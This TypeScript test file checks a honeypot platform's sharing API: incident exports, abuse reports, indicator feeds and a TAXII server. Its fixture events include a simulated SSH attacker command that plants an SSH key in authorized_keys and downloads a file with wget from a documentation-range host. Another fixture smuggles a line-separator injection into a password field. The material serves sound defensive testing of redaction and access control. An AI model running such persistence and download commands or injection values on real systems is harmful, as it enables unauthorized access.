/** What leaves the house, asked of the API over the real engine and what the analysis found on it. */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { OperationalError } from '@apiary/model/errors.ts';
import type { FastifyInstance } from 'fastify';
import { Analysis } from '../analysis/analysis.ts';
import { compile2020 } from '../exports/testing/compile-schema.ts';
import { openInventory } from '../exports/testing/incident.ts';
import { Arrivals } from '../reports/arrivals.ts';
import { Catalogue } from '../reports/catalogue.ts';
import type { StateDatabase } from '../state/database.ts';
import { addUser } from '../state/users.ts';
import { migrate } from '../store/schema.ts';
import { Store } from '../store/store.ts';
import { createApi } from './app.ts';

const password = 'a long password';
const attack_ms = Date.UTC(2026, 4, 20, 12);
const hash = 'cd'.repeat(32);
const key = `AAAA${'B3NzaC1yc2E'.repeat(8)}`;

/** Two sources with one payload, one that only looks, one of a private network, and a honeypot itself. */
const events = [
  {
    s: 0,
    ip: '::ffff:203.0.113.1',
    action: 'authenticate',
    outcome: 'success',
    session: 'a',
    username: 'root',
    password: 'hunter2',
  },
  {
    s: 5,
    ip: '::ffff:203.0.113.1',
    action: 'input',
    session: 'a',
    command: `echo ssh-rsa ${key} >> ~/.ssh/authorized_keys; wget http://198.51.100.9/x; echo secret-pot 192.0.2.66 192.0.2.99 3221226083`,
    // Where it was reached the inventory does not say.
    destination_ip: '::ffff:192.0.2.99',
    direction: 'inbound',
  },
  {
    s: 9,
    ip: '::ffff:203.0.113.1',
    action: 'download',
    session: 'a',
    file_sha256: hash,
    url: 'http://198.51.100.9/x',
  },
  {
    s: 600,
    ip: '::ffff:203.0.113.2',
    action: 'authenticate',
    outcome: 'failure',
    session: 'b',
    username: 'admin',
    password: 'secret-pot',
  },
  {
    // What ends a line for some programs that read a feed: an address of the attacker's choice would stand in one.
    s: 601,
    ip: '::ffff:203.0.113.2',
    action: 'authenticate',
    outcome: 'failure',
    session: 'b',
    username: 'admin',
    password: 'x\u2028198.51.100.77',
  },
  {
    s: 605,
    ip: '::ffff:203.0.113.2',
    action: 'download',
    session: 'b',
    file_sha256: hash,
    url: 'http://192.0.2.66/from-here',
  },
  { s: 700, ip: '2001:db8:77::1', action: 'probe', session: 'c' },
  { s: 800, ip: '::ffff:10.1.2.3', action: 'probe', session: 'd' },
  { s: 900, ip: '::ffff:192.0.2.66', action: 'probe', session: 'e' },
];

describe('sharing', () => {
  const directory = mkdtempSync(join(tmpdir(), 'apiary-sharing-'));
  let store: Store;
  let state: StateDatabase;
  let app: FastifyInstance;
  let clock_ms = attack_ms + 3_600_000;
  const nothing = async (sha256: string): Promise<never> => {
    throw new OperationalError('not_found', `there is no artifact ${sha256}`);
  };
  const cookies: Record<string, Record<string, string>> = {};
  const ask = async (
    who: string | null,
    url: string,
    more: { method?: 'GET' | 'POST' | 'DELETE'; payload?: object; headers?: Record<string, string> } = {},
  ) => app.inject({ url, ...more, cookies: who === null ? {} : cookies[who]! });

  before(async () => {
    store = new Store({ directory });
    await store.whenUp();
    await migrate(store, []);
    state = openInventory();
    await store.insertRows(
      'event',
      events.map(({ s, ip, ...event }, index) => ({
        event_id: index + 1,
        sensor_id: 1,
        sensor_type: 'test',
        sensor_table: 'test_lines',
        segment_id: 1,
        place: index + 1,
        detect_ts: new Date(attack_ms + s * 1000).toISOString().slice(0, 19).replace('T', ' '),
        collect_ts: new Date(attack_ms + s * 1000).toISOString().slice(0, 19).replace('T', ' '),
        target_kind: 'computer',
        vantage: 'honeypot',
        service: 'ssh',
        transport: 'tcp',
        source_port: 40_000 + index,
        destination_port: 22,
        attacker_ip: ip,
        ...event,
      })),
    );
    const scope = { pause_seconds: 3600, nets: [], honeypots: [], gateways: [], kept_from_us: 0 };
    const analysis = new Analysis({ store, state, scope: () => scope, log: () => undefined });
    await analysis.load();
    analysis.note(1n);
    await analysis.pass();
    app = await createApi({
      store,
      state,
      catalogue: new Catalogue([]),
      recordings: { sql: new Map(), sessions_sql: new Map(), read: async () => null },
      files: { examine: nothing, lock: nothing },
      writeEvidence: async () => '',
      analysis: { regroup: async () => undefined, rejudge: () => undefined, pause_seconds: 3600 },
      arrivals: new Arrivals(),
      isWell: () => true,
      reporter: { organisation: 'Example CSIRT', contact: 'abuse@csirt.example' },
      demo: false,
      web_root: directory,
      now_ms: () => clock_ms,
    });
    for (const role of ['administrator', 'analyst', 'viewer'] as const) {
      await addUser(state, 'test', { name: role, role, password });
      const made = await app.inject({
        method: 'POST',
        url: '/api/v1/login',
        payload: { name: role, password },
      });
      cookies[role] = { apiary_login: made.cookies[0]!.value };
    }
  });
  after(async () => {
    await app.close();
    await store.close();
    state.close();
    rmSync(directory, { recursive: true });
  });

  const numberOf = async (stage: string): Promise<number> => {
    const { incidents } = (await ask('viewer', '/api/v1/incidents?last=7d')).json();
    return incidents.find((incident: { stage: string }) => incident.stage === stage).number;
  };

  test('an incident leaves as a file by analysts, which is logged, and without its honeypot', async () => {
    const number = await numberOf('brought a tool');
    const url = `/api/v1/incidents/${number}/file?format=idea&tlp=clear`;
    assert.equal((await ask('viewer', url)).statusCode, 403);
    const response = await ask('analyst', url);
    assert.equal(response.statusCode, 200, response.body);
    assert.match(response.body, /"TLP": "CLEAR"/);
    assert.match(response.body, new RegExp(hash));
    assert.doesNotMatch(response.body, /secret-pot|192\.0\.2\.(?:66|99)|3221226083/);
    for (const own of [`/${number}/file?format=html`, `/file?format=idmef&numbers=${number}`]) {
      const { body } = await ask('analyst', `/api/v1/incidents${own}`);
      assert.match(body, /authorized_keys/);
      assert.doesNotMatch(body, /secret-pot|192\.0\.2\.(?:66|99)|3221226083/, own);
    }
    const { changes } = (await ask('administrator', '/api/v1/audit?verb=export%20incident')).json();
    assert.deepEqual([changes[0].actor, changes[0].subject], ['analyst', `#${number}`]);
  });

  test('several incidents leave in one file', async () => {
    const numbers = `${await numberOf('brought a tool')},${await numberOf('probed')}`;
    const url = `/api/v1/incidents/file?format=misp&tlp=green&numbers=${numbers}`;
    assert.equal((await ask('viewer', url)).statusCode, 403);
    const response = await ask('analyst', url);
    assert.equal(response.statusCode, 200, response.body);
    assert.equal(response.json().response.length, 2);
    for (const [wrong, status] of [
      ['1;2', 400],
      [Array.from({ length: 101 }, (_, index) => index + 1).join(','), 400],
      ['999', 404],
    ] as const)
      assert.equal(
        (await ask('analyst', `/api/v1/incidents/file?format=misp&numbers=${wrong}`)).statusCode,
        status,
      );
  });

  test('an abuse report has what its source did, and is made for no other address', async () => {
    const number = await numberOf('brought a tool');
    const report = (source: string) =>
      ask('analyst', `/api/v1/incidents/${number}/abuse?source=${encodeURIComponent(source)}`);
    const response = await report('203.0.113.1');
    assert.equal(response.statusCode, 200, response.body);
    const made = response.json();
    assert.deepEqual(
      [made.type, made.source_port, made.destination_port, made.reporter.domain],
      ['login_attack', 40_000, 22, 'csirt.example'],
    );
    const lines = Buffer.from(made.evidence[0].payload, 'base64').toString().trim().split('\n');
    assert.equal(lines.length, 3);
    assert.match(lines[0]!, /^2026-05-20T12:00:00\.000000Z from port 40000 to tcp 22 ssh authenticate/);
    assert.doesNotMatch(lines.join(), /hunter2|secret-pot|192\.0\.2\.(?:66|99)|3221226083/);
    assert.equal((await report('203.0.113.9')).statusCode, 404);
    assert.equal((await report('not an address')).statusCode, 400);
    const { changes } = (await ask('administrator', '/api/v1/audit?verb=make%20abuse%20report')).json();
    assert.equal(changes.length, 1);
    assert.equal((await report('::FFFF:203.0.113.1')).statusCode, 200, 'in another spelling');
  });

  const makeFeed = async (body: object) => {
    const response = await ask('administrator', '/api/v1/feeds', { method: 'POST', payload: body });
    assert.equal(response.statusCode, 201, response.body);
    return response.json() as { secret: string; feed_id: number };
  };
  const follow = async (secret: string, end: string): Promise<string> => {
    const response = await ask(null, `/api/v1/feed/${secret}/${end}`);
    assert.equal(response.statusCode, 200, response.body);
    return response.body;
  };
  const valuesOf = (text: string): string[] =>
    text.split('\n').filter((line) => line !== '' && !line.startsWith('#'));
  const everything = ['address', 'file', 'url', 'credential', 'key'];

  test('a feed gives what attackers left, and nothing that is ours, private or allowed', async () => {
    const feed = { kinds: everything, stage: 'probed' };
    const { secret } = await makeFeed({ ...feed, name: 'all' });
    const text = await follow(secret, 'txt');
    assert.match(text, /^# TLP:AMBER$/m);
    assert.deepEqual(valuesOf(text), [
      '2001:db8:77::1',
      '203.0.113.2',
      '203.0.113.1',
      hash,
      'http://198.51.100.9/x',
      'root:hunter2',
      key,
    ]);
    // Withheld: a private address, the honeypot's, a URL of it, a password with its name.
    assert.match(text, /7 values, 5 withheld/);
    assert.deepEqual(valuesOf(await follow(secret, 'txt?kind=file')), [hash]);
    const allow = ['203.0.113.0/31', '198.51.100.0/24', hash.toUpperCase(), 'root', '2001:db8:77::/48'];
    const allowed = await makeFeed({ ...feed, name: 'allowed', allow });
    assert.deepEqual(valuesOf(await follow(allowed.secret, 'txt')), ['203.0.113.2', key]);
    const far = await makeFeed({
      name: 'far',
      kinds: ['address'],
      stage: 'brought a tool',
      services: ['ssh'],
    });
    assert.deepEqual(valuesOf(await follow(far.secret, 'txt')), ['203.0.113.2', '203.0.113.1']);
    const other = await makeFeed({ name: 'other', kinds: everything, stage: 'probed', services: ['telnet'] });
    assert.deepEqual(valuesOf(await follow(other.secret, 'txt')), []);
    const miners = await makeFeed({ name: 'family', kinds: ['address'], families: ['no such'] });
    assert.deepEqual(valuesOf(await follow(miners.secret, 'txt')), []);
  });

  test('known sources are in no feed, and an indicator falls out with age', async () => {
    state.run("INSERT INTO known_source VALUES ('203.0.113.1/32', 'own_scanner', 'ours', 0)");
    const { secret } = await makeFeed({ name: 'aging', kinds: ['address'], days: 7 });
    const before = clock_ms;
    assert.deepEqual(valuesOf(await follow(secret, 'txt')), ['203.0.113.2']);
    clock_ms = attack_ms + 6 * 86_400_000;
    assert.deepEqual(valuesOf(await follow(secret, 'txt')), ['203.0.113.2']);
    clock_ms = attack_ms + 8 * 86_400_000;
    assert.deepEqual(valuesOf(await follow(secret, 'txt')), []);
    clock_ms = before;
    state.run('DELETE FROM known_source');
  });

  test('a feed as CSV and STIX carries its marking, and sensors only where it was asked for', async () => {
    const plain = await makeFeed({ name: 'plain', kinds: everything, tlp: 'green' });
    const csv = (await follow(plain.secret, 'csv')).split('\r\n');
    assert.equal(csv[0], 'type,value,first,last,until,times,tlp');
    assert(
      csv.includes(
        `file,${hash},2026-05-20T12:00:00.000000Z,2026-05-20T12:10:05.000000Z,2026-06-19T12:10:05.000Z,2,green`,
      ),
      csv.join('\n'),
    );
    const open = await makeFeed({ name: 'with sensors', kinds: everything, tlp: 'clear', sensors: true });
    assert.match(await follow(open.secret, 'csv'), /,clear,sensor-[0-9a-f]{10}\r\n/);
    const bundle = JSON.parse(await follow(open.secret, 'stix'));
    const indicators = bundle.objects.filter(({ type }: { type: string }) => type === 'indicator');
    const [marking] = bundle.objects;
    assert.equal(marking.name, 'TLP:CLEAR');
    assert(
      indicators.every((one: { object_marking_refs: string[] }) => one.object_marking_refs[0] === marking.id),
    );
    const patterns = indicators.map(({ pattern }: { pattern: string }) => pattern);
    assert(patterns.includes("[user-account:user_id = 'root' AND user-account:credential = 'hunter2']"));
    assert(patterns.includes(`[artifact:payload_bin = b'${key}']`));
    assert.match(indicators[0].description, /sensors: sensor-/);
    assert.doesNotMatch(JSON.stringify(bundle), /secret-pot|192\.0\.2\.(?:66|99)|3221226083/);
    const validate = compile2020('stix')(
      'http://raw.githubusercontent.com/oasis-open/cti-stix2-json-schemas/stix2.1/schemas/sdos/indicator.json',
    );
    for (const one of indicators) assert(validate(one), JSON.stringify(validate.errors));
  });

  test('feeds are made, listed and revoked by administrators, which is logged; none is RED; a link is all it takes', async () => {
    const body = { name: 'red', kinds: ['address'], tlp: 'red' };
    const post = (who: string, payload: object) => ask(who, '/api/v1/feeds', { method: 'POST', payload });
    const refused = await post('administrator', body);
    assert.equal(refused.statusCode, 400);
    assert.match(refused.json().error.message, /tlp.*what is RED is for no feed/);
    assert.equal((await post('analyst', { ...body, tlp: 'green' })).statusCode, 403);
    assert.equal((await ask('analyst', '/api/v1/feeds')).statusCode, 403);
    const { secret, feed_id } = await makeFeed({ name: 'to revoke', kinds: ['address'] });
    assert.equal((await post('administrator', { name: 'to revoke', kinds: ['file'] })).statusCode, 409);
    const stored = state.get<{ row: string }>(
      'SELECT secret_hash || body AS row FROM feed WHERE feed_id = ?',
      feed_id,
    );
    assert(!stored!.row.includes(secret));
    await follow(secret, 'txt');
    await follow(secret, 'csv');
    const listed = (await ask('administrator', '/api/v1/feeds')).json();
    assert.deepEqual([listed[0].name, listed[0].asked, listed[0].seen_ms], ['to revoke', 2, clock_ms]);
    assert(!JSON.stringify(listed).includes(secret));
    const revoke = () => ask('administrator', `/api/v1/feeds/${feed_id}`, { method: 'DELETE' });
    assert.equal((await revoke()).statusCode, 204);
    assert.equal((await ask(null, `/api/v1/feed/${secret}/txt`)).statusCode, 404);
    assert.equal((await revoke()).statusCode, 404);
    assert.equal((await ask(null, `/api/v1/feed/${'x'.repeat(43)}/txt`)).statusCode, 404);
    const { changes } = (await ask('administrator', '/api/v1/audit?subject=to%20revoke')).json();
    assert.deepEqual(
      changes.map(({ verb, actor }: { verb: string; actor: string }) => [verb, actor]),
      [
        ['revoke feed', 'administrator'],
        ['make feed', 'administrator'],
      ],
    );
  });

  const accept = 'application/taxii+json;version=2.1';
  const tokenOf = async (who: string): Promise<string> => {
    const payload = { name: 'taxii', scope: 'read', days: 1 };
    return (await ask(who, '/api/v1/tokens', { method: 'POST', payload })).json().token;
  };

  test('TAXII is for tokens of those who see everything, in its own version and errors', async () => {
    const basic = `Basic ${Buffer.from(`whoever:${await tokenOf('analyst')}`).toString('base64')}`;
    const get = (url: string, headers: Record<string, string>) => app.inject({ url, headers });
    const none = await get('/taxii2/', { accept });
    assert.equal(none.statusCode, 401);
    assert.match(String(none.headers['www-authenticate']), /^Basic realm=/);
    assert.deepEqual([none.headers['content-type'], none.json().http_status], [accept, '401']);
    assert.equal((await get('/taxii2/', { accept, authorization: 'Basic bm86bm8=' })).statusCode, 401);
    const viewer = `Bearer ${await tokenOf('viewer')}`;
    assert.equal((await get('/taxii2/', { accept, authorization: viewer })).statusCode, 403);
    for (const wrong of ['application/taxii+json;version=2.0', 'text/html'])
      assert.equal((await get('/taxii2/', { accept: wrong, authorization: basic })).statusCode, 406);
    const discovery = await get('/taxii2/', { accept, authorization: basic, host: 'apiary.example' });
    assert.equal(discovery.headers['content-type'], accept);
    assert.deepEqual(discovery.json().api_roots, ['http://apiary.example/taxii2/apiary/']);
    const root = (await get('/taxii2/apiary/', { authorization: basic })).json();
    assert.deepEqual(root.versions, [accept]);
    const lost = await get('/taxii2/apiary/collections/x/objects/', { accept, authorization: basic });
    assert.deepEqual([lost.statusCode, lost.json().title], [404, 'there is no collection x']);
  });

  test('TAXII pages through incidents and feeds, and tells what was added after', async () => {
    const authorization = `Bearer ${await tokenOf('administrator')}`;
    const get = async (path: string) => {
      const response = await app.inject({
        url: `/taxii2/apiary/${path}`,
        headers: { accept, authorization },
      });
      assert.equal(response.statusCode, 200, response.body);
      return {
        ...response.json(),
        first: response.headers['x-taxii-date-added-first'],
        last: response.headers['x-taxii-date-added-last'],
      };
    };
    const feed = await makeFeed({
      name: 'by taxii',
      kinds: ['address', 'file'],
      stage: 'probed',
      tlp: 'green',
    });
    const { collections } = await get('collections/');
    const of = (title: string): string =>
      collections.find((one: { title: string }) => one.title === title).id;
    const incidents = `collections/${of('Incidents')}`;
    const addresses = `collections/${of('Feed: by taxii')}`;
    assert.equal((await get(`${incidents}/`)).can_write, false);

    const find = compile2020('stix');
    const base = 'http://raw.githubusercontent.com/oasis-open/cti-stix2-json-schemas/stix2.1/schemas';
    const folders: Record<string, string> = { relationship: 'sros', 'marking-definition': 'common' };
    type Found = { id: string; type: string; pattern?: string };
    const walk = async (path: string, limit: number): Promise<Found[]> => {
      const all: Found[] = [];
      for (let next = ''; ; ) {
        const page = await get(
          `${path}?limit=${limit}${next === '' ? '' : `&next=${encodeURIComponent(next)}`}`,
        );
        assert(page.objects.length <= limit);
        all.push(...page.objects);
        if (!page.more) return all;
        next = page.next;
      }
    };
    for (const path of [incidents, addresses]) {
      const whole = await walk(`${path}/objects/`, 1000);
      const ids = new Set(whole.map(({ id }) => id));
      assert.equal(ids.size, whole.length);
      const paged = await walk(`${path}/objects/`, 2);
      assert.deepEqual(new Set(paged.map(({ id }) => id)), ids);
      const manifest = await walk(`${path}/manifest/`, 1000);
      assert.deepEqual(new Set(manifest.map(({ id }) => id)), ids);
      for (const object of whole) {
        const validate = find(`${base}/${folders[object.type] ?? 'sdos'}/${object.type}.json`);
        assert(validate(object), `${object.id}: ${JSON.stringify(validate.errors)}`);
      }
      assert.doesNotMatch(JSON.stringify(whole), /secret-pot|192\.0\.2\.(?:66|99)|3221226083/);
    }
    const typed = await get(`${incidents}/objects/?match%5Btype%5D=incident`);
    assert.equal(typed.objects.length, 4);
    const { id } = typed.objects[0];
    assert.equal((await get(`${incidents}/objects/${id}/`)).objects[0].id, id);
    assert.deepEqual((await get(`${incidents}/objects/${id}/versions/`)).versions, [
      typed.objects[0].modified,
    ]);
    assert.equal((await get(`${incidents}/objects/?match%5Bspec_version%5D=2.0`)).objects.length, 0);

    // An analyst names one: it alone is new after what was there before.
    const before = (await get(`${incidents}/manifest/?limit=1000`)).last;
    clock_ms += 60_000;
    assert.equal((await get(`${incidents}/objects/?added_after=${before}`)).objects.length, 0);
    const number = await numberOf('brought a tool');
    const payload = { field: 'name', value: 'Miners of May' };
    await ask('analyst', `/api/v1/incidents/${number}/judgements`, { method: 'POST', payload });
    clock_ms += 60_000;
    const changed = await get(`${incidents}/objects/?added_after=${before}&match%5Btype%5D=incident`);
    assert.deepEqual(
      changed.objects.map(({ name }: { name: string }) => name),
      ['Miners of May'],
    );
    assert.equal(changed.last, new Date(clock_ms).toISOString());
    const values = (await walk(`${addresses}/objects/`, 1000)).flatMap(({ pattern }) => pattern ?? []);
    assert.deepEqual(values.sort(), [
      `[file:hashes.'SHA-256' = '${hash}']`,
      "[ipv4-addr:value = '203.0.113.1']",
      "[ipv4-addr:value = '203.0.113.2']",
      "[ipv6-addr:value = '2001:db8:77::1']",
    ]);
    // Nothing is written, and what is nowhere is no page for people.
    for (const [method, path, status] of [
      ['POST', `${incidents}/objects/`, 403],
      ['DELETE', `${incidents}/objects/indicator--1/`, 403],
      ['GET', 'status/1/', 404],
      ['GET', 'nothing', 404],
    ] as const) {
      const payload = method === 'POST' ? { payload: '{"objects":[]}' } : {};
      const response = await app.inject({
        ...{ method, url: `/taxii2/apiary/${path}`, ...payload },
        headers: { accept, authorization, ...(method === 'POST' ? { 'content-type': accept } : {}) },
      });
      assert.deepEqual(
        [response.statusCode, response.headers['content-type']],
        [status, accept],
        `${path} ${response.body}`,
      );
      assert.equal(response.json().http_status, String(status));
      const nobody = await app.inject({ method, url: `/taxii2/apiary/${path}`, headers: { accept } });
      assert.equal(nobody.statusCode, 401, path);
    }
    const twice = 'match%5Btype%5D=incident&match%5Btype%5D=indicator';
    for (const wrong of ['limit=0', 'next=x', 'added_after=yesterday', twice]) {
      const url = `/taxii2/apiary/${incidents}/objects/?${wrong}`;
      const response = await app.inject({ url, headers: { accept, authorization } });
      assert.deepEqual([response.statusCode, response.json().error_code], [400, 'input_invalid'], wrong);
    }
    await ask('administrator', `/api/v1/feeds/${feed.feed_id}`, { method: 'DELETE' });
    const gone = await app.inject({
      url: `/taxii2/apiary/${addresses}/objects/`,
      headers: { accept, authorization },
    });
    assert.equal(gone.statusCode, 404);
    assert.equal(
      state.get<{ n: number }>(
        'SELECT count() AS n FROM taxii_offer WHERE collection = ?',
        `feed ${feed.feed_id}`,
      )!.n,
      0,
    );
  });
});
